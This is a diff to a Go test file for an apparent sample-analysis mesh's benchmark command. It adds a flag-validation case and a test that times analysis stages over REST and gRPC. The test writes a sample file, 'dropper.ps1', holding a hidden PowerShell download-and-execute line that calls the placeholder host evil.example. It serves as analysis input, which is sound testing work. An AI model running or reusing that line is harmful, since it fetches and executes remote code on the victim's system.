@@ -1,10 +1,13 @@
 package main
 
 import (
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/athena-mesh/athena/internal/testutil"
 	"go.opentelemetry.io/otel/trace"
 )
 
@@ -76,11 +79,37 @@ func TestBenchStagesFlags(t *testing.T) {
 		{"remote mesh", []string{"bench", "--mode", "stages", "--url", "http://127.0.0.1:1", "--stage-sample", "x=y"}},
 		{"no sample", []string{"bench", "--mode", "stages"}},
 		{"no runs", []string{"bench", "--mode", "stages", "--stage-sample", "x=y", "--runs", "0"}},
+		{"unknown protocol", []string{"bench", "--mode", "stages", "--stage-sample", "x=y", "--stage-protocol", "carrier-pigeon"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			code, _, errOut := runCLI(t, tc.args...)
-			if code != 2 || !strings.Contains(errOut, "--mode stages") {
+			if code != 2 || !strings.Contains(errOut, "--mode stages") && !strings.Contains(errOut, "--stage-protocol") {
 				t.Errorf("exit %d, stderr %q; want a usage error about --mode stages", code, errOut)
+			}
+		})
+	}
+}
+
+// The stages mode measures a sample over either front door of the in-process mesh and breaks
+// the traces of both down into stages (the root span of a gRPC analysis is the client's).
+func TestBenchStagesProtocols(t *testing.T) {
+	sample := filepath.Join(t.TempDir(), "dropper.ps1")
+	if err := os.WriteFile(sample, []byte("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	modules := testutil.ModulesDir(t)
+	for _, protocol := range []string{"rest", "grpc"} {
+		t.Run(protocol, func(t *testing.T) {
+			code, out, errOut := runCLI(t, "bench", "--mode", "stages", "--modules-dir", modules, "--stage-sample", "ps="+sample,
+				"--runs", "2", "--warmup", "0", "--stage-protocol", protocol)
+			if code != 0 {
+				t.Fatalf("exit %d\nstderr: %s", code, errOut)
+			}
+			if !strings.Contains(out, "2 uncached analyses over "+protocol) {
+				t.Errorf("output lacks the %s summary line:\n%s", protocol, out)
+			}
+			if !strings.Contains(out, "orchestrator (hashing, routing, merging)") || strings.Contains(out, "no complete traces") {
+				t.Errorf("no stage breakdown over %s:\n%s", protocol, out)
 			}
 		})
 	}
